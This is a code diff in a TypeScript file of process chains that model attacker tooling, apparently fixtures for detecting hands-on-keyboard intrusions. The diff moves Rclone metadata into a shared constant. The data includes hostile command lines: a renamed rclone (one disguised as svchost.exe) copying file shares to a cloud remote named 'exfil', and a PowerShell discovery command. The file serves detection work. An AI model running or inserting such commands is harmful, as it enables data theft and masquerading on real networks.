@@ -2,6 +2,13 @@ import type { Chain } from './hp-chains.js';
 
 const HOURLY = { hourly: true } as const;
 const SYSTEM = { system: true } as const;
+/** rclone renamed: its version info still names it. */
+const RCLONE = {
+  product: 'Rclone',
+  original: 'rclone.exe',
+  description: 'Rsync for cloud storage',
+  company: 'https://rclone.org',
+} as const;
 
 /**
  * Hands-on-keyboard tooling as public reporting shows it: credential theft, AD discovery,
@@ -100,28 +107,8 @@ export const HP_TOOL_CHAINS: readonly Chain[] = [
     {},
   ],
   ['explorer.exe', 'taskmgr.exe', 'powershell.exe -nop -c whoami', {}],
-  [
-    'explorer.exe',
-    'cmd.exe',
-    'C:\\ProgramData\\rc.exe copy C:\\Shares\\Finance mega:exfil',
-    {
-      product: 'Rclone',
-      original: 'rclone.exe',
-      description: 'Rsync for cloud storage',
-      company: 'https://rclone.org',
-    },
-  ],
-  [
-    'explorer.exe',
-    'cmd.exe',
-    'C:\\ProgramData\\svchost.exe copy C:\\Shares remote:x',
-    {
-      product: 'Rclone',
-      original: 'rclone.exe',
-      description: 'Rsync for cloud storage',
-      company: 'https://rclone.org',
-    },
-  ],
+  ['explorer.exe', 'cmd.exe', 'C:\\ProgramData\\rc.exe copy C:\\Shares\\Finance mega:exfil', RCLONE],
+  ['explorer.exe', 'cmd.exe', 'C:\\ProgramData\\svchost.exe copy C:\\Shares remote:x', RCLONE],
   [
     'explorer.exe',
     'cmd.exe',
